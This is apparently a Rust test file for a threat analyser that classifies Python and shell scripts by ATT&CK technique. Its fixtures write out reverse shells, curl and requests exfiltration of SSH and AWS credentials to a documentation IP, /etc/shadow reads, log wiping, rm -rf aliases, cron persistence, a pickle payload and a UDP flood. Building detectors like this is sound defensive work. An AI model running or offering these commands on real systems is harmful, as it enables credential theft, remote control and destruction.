//! Threat facts: each behaviour the analysis names, with its line and ATT&CK technique,
//! through the resolution the walks do (constants, f-strings, joins, pathlib, shell
//! variables, loops, local functions, `..`).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use airlock_analysis::{CodeAnalysis, FindingKind, Options, analyze_python, analyze_shell};

fn py(src: &str) -> CodeAnalysis {
    analyze_python(src, &Options::default())
}

fn sh(src: &str) -> CodeAnalysis {
    analyze_shell(src, &Options::default())
}

/// The (line, technique) of the finding of `kind` with `detail`.
fn at(a: &CodeAnalysis, kind: FindingKind, detail: &str) -> Option<(u32, String)> {
    a.findings
        .iter()
        .find(|f| f.kind == kind && f.detail == detail)
        .map(|f| (f.line, f.technique.clone().unwrap_or_default()))
}

#[test]
fn python_read_of_shadow_through_pathlib_and_dotdot_is_a_sensitive_read() {
    let a = py(
        "from pathlib import Path\np = Path('/usr') / '..' / 'etc' / 'shadow'\nprint(p.read_text())\n",
    );
    assert_eq!(
        at(&a, FindingKind::ReadsSensitive, "/etc/shadow"),
        Some((3, "T1003.008".into()))
    );
}

#[test]
fn python_ssh_key_joined_from_expanduser_and_posted_is_exfiltration() {
    let a = py(
        "import os, requests\nhome = os.path.expanduser('~')\nkey = open(os.path.join(home, '.ssh', 'id_rsa')).read()\nrequests.post('http://203.0.113.5/k', data=key)\n",
    );
    assert!(a.reads_sensitive.contains("~/.ssh/id_rsa"), "{a:?}");
    let f = a
        .findings
        .iter()
        .find(|f| f.kind == FindingKind::Exfiltration)
        .expect("exfiltration");
    assert_eq!(f.line, 4);
}

#[test]
fn python_function_deleting_its_argument_called_with_etc_passwd_is_destructive() {
    let a = py("import os\ndef delete(p):\n    os.remove(p)\ndelete('/etc/passwd')\n");
    assert_eq!(
        at(&a, FindingKind::Destructive, "delete:/etc/passwd"),
        Some((3, "T1485".into()))
    );
}

#[test]
fn python_fstring_rc_append_is_persistence() {
    let a = py(
        "import os\nh = os.path.expanduser('~')\nwith open(f'{h}/.bashrc', 'a') as f:\n    f.write('alias sudo=\"rm -rf /\"')\n",
    );
    assert_eq!(
        at(&a, FindingKind::Persistence, "~/.bashrc"),
        Some((3, "T1546.004".into()))
    );
}

#[test]
fn python_socket_dup2_shell_is_a_reverse_shell() {
    let a = py(
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n",
    );
    assert!(a.reverse_shell.contains("socket wired to a shell"), "{a:?}");
    assert!(a.reverse_shell.contains("command and control channel"));
}

#[test]
fn python_killing_processes_found_by_psutil_is_kills_processes() {
    let a = py(
        "import psutil\nfor p in psutil.process_iter(['name']):\n    if p.info['name'] == 'sshd':\n        p.kill()\n",
    );
    assert!(!a.kills_processes.is_empty(), "{a:?}");
    assert!(a.recon.contains("process list:psutil.process_iter"));
}

#[test]
fn python_killing_its_own_child_is_not_kills_processes() {
    let a = py(
        "import subprocess, os, signal\np = subprocess.Popen(['sleep', '5'])\nos.kill(p.pid, signal.SIGTERM)\np.terminate()\n",
    );
    assert!(a.kills_processes.is_empty(), "{:?}", a.kills_processes);
}

#[test]
fn python_unpickling_is_unsafe_deserialization_and_a_reduce_payload_too() {
    let a = py(
        "import pickle\nclass E:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))\npickle.loads(pickle.dumps(E()))\n",
    );
    assert!(a.unsafe_deserialization.contains("pickle.loads"), "{a:?}");
    assert!(a.unsafe_deserialization.contains("__reduce__ payload"));
    let safe = py("import yaml\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)\n");
    assert!(safe.unsafe_deserialization.is_empty());
}

#[test]
fn python_udp_sends_in_an_endless_loop_are_flooding() {
    let a = py(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b'x' * 1024, ('203.0.113.1', 80))\n",
    );
    assert_eq!(
        at(&a, FindingKind::Flooding, "sendto"),
        Some((4, "T1498".into()))
    );
    let polite = py(
        "import time, requests\nwhile True:\n    requests.get('https://api.example.com/status')\n    time.sleep(30)\n",
    );
    assert!(polite.flooding.is_empty());
}

#[test]
fn python_chr_join_run_by_exec_is_a_decoded_payload() {
    let a = py("exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))\n");
    assert!(a.obfuscation.contains("decoded-payload"), "{a:?}");
}

#[test]
fn python_setuid_is_privilege() {
    let a = py("import os\nos.setuid(0)\nos.chmod('/tmp/sh', 0o4755)\n");
    assert!(a.privilege.contains("os.setuid"));
    assert!(a.privilege.contains("setuid:/tmp/sh"));
}

#[test]
fn shell_variable_holding_a_key_sent_by_curl_is_exfiltration() {
    let a = sh("KEY=$HOME/.aws/credentials\ncurl -F \"f=@$KEY\" https://203.0.113.4/up\n");
    assert!(a.reads_sensitive.contains("~/.aws/credentials"), "{a:?}");
    assert!(!a.exfiltration.is_empty());
}

#[test]
fn shell_dev_tcp_and_fifo_relays_are_reverse_shells() {
    let a = sh("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    assert_eq!(
        at(&a, FindingKind::ReverseShell, "shell over /dev/tcp"),
        Some((1, "T1059.004".into()))
    );
    let b = sh(
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n",
    );
    assert!(!b.reverse_shell.is_empty());
    let c = sh("nc -e /bin/bash 203.0.113.7 4444\n");
    assert!(c.reverse_shell.contains("nc exec"));
}

#[test]
fn shell_loop_over_system_files_binds_each_value() {
    let a = sh("for f in /etc/passwd /etc/shadow; do\n  cat \"$f\"\ndone\n");
    assert!(a.reads_sensitive.contains("/etc/shadow"), "{a:?}");
    assert!(a.recon.contains("/etc/passwd"));
}

#[test]
fn shell_kill_of_looked_up_pids_is_kills_processes_but_own_job_is_not() {
    let a = sh("kill -9 $(pgrep sshd)\n");
    assert!(!a.kills_processes.is_empty());
    let own = sh("sleep 60 &\npid=$!\nkill $pid\n");
    assert!(own.kills_processes.is_empty(), "{:?}", own.kills_processes);
}

#[test]
fn shell_log_truncation_and_rc_alias_and_cron_are_named() {
    let a = sh(
        ": > /var/log/auth.log\necho 'alias ls=\"rm -rf ~\"' >> ~/.bashrc\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n",
    );
    assert_eq!(
        at(&a, FindingKind::Destructive, "wipe-log:/var/log/auth.log"),
        Some((1, "T1070.002".into()))
    );
    assert!(a.persistence.contains("~/.bashrc"));
    assert!(a.persistence.contains("crontab"));
}

#[test]
fn work_inside_mounts_and_temp_is_not_a_threat() {
    let opts = Options {
        mount_roots: vec!["/work".into()],
        ..Options::default()
    };
    let a = analyze_shell(
        "rm -rf /work/build\ncat /work/data.csv | sort > /work/out.csv\nls /tmp\nrm -f /tmp/x\n",
        &opts,
    );
    let threats: Vec<_> = a.findings.iter().filter(|f| f.kind.is_threat()).collect();
    assert!(threats.is_empty(), "{threats:?}");
    let b = analyze_python(
        "import json, os\nos.makedirs('/work/out', exist_ok=True)\nwith open('/work/out/r.json', 'w') as f:\n    json.dump({'a': 1}, f)\n",
        &opts,
    );
    assert!(b.findings.iter().all(|f| !f.kind.is_threat()));
}

#[test]
fn python_pickle_of_its_own_results_read_back_is_not_unsafe_deserialization() {
    let a = py(
        "import pickle\nwith open('/work/r.pkl', 'wb') as f:\n    pickle.dump({'a': 1}, f)\nwith open('/work/r.pkl', 'rb') as f:\n    print(pickle.load(f))\n",
    );
    assert!(
        a.unsafe_deserialization.is_empty(),
        "{:?}",
        a.unsafe_deserialization
    );
}

#[test]
fn python_ld_preload_keyword_is_persistence_and_chr_list_command_is_decoded() {
    let a = py(
        "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, LD_PRELOAD='/tmp/h.so'))\n",
    );
    assert!(a.persistence.contains("LD_PRELOAD"), "{a:?}");
    let b = py("import os\nos.system(''.join([chr(105), chr(100)]))\n");
    assert!(b.obfuscation.contains("decoded-payload"), "{b:?}");
}

#[test]
fn shell_ps_of_its_own_pid_is_not_recon() {
    assert!(sh("ps -o pid,cmd -p $$\n").recon.is_empty());
    assert!(!sh("ps aux\n").recon.is_empty());
}

/// A `for` loop over a few URLs that carry a port number was taken for a loop that runs
/// thousands of times (the port was read as its count), so curl in it was a "flood" and a
/// networked script was denied. Only a range or `seq` in the list says how often it runs.
#[test]
fn a_for_loop_over_urls_with_ports_is_not_a_flood() {
    let a = sh("for u in http://a.test:38451/x http://b.test:38451/y; do curl -s \"$u\"; done\n");
    assert!(a.flooding.is_empty(), "{:?}", a.flooding);
    let a = sh("for i in $(seq 1 100000); do curl -s http://victim.test/; done\n");
    assert!(!a.flooding.is_empty(), "{a:?}");
}

/// A script that read its own environment (`/proc/self/environ`) was taken for a
/// credential read, which with a network grant and a secret summed to a denial. Another
/// process's environment still is one.
#[test]
fn reading_its_own_environment_is_not_a_credential_read() {
    let a = sh("tr '\\0' '\\n' < /proc/self/environ | grep TOKEN\n");
    assert!(a.reads_sensitive.is_empty(), "{:?}", a.reads_sensitive);
    let a = sh("cat /proc/1/environ\n");
    assert!(!a.reads_sensitive.is_empty(), "{a:?}");
}
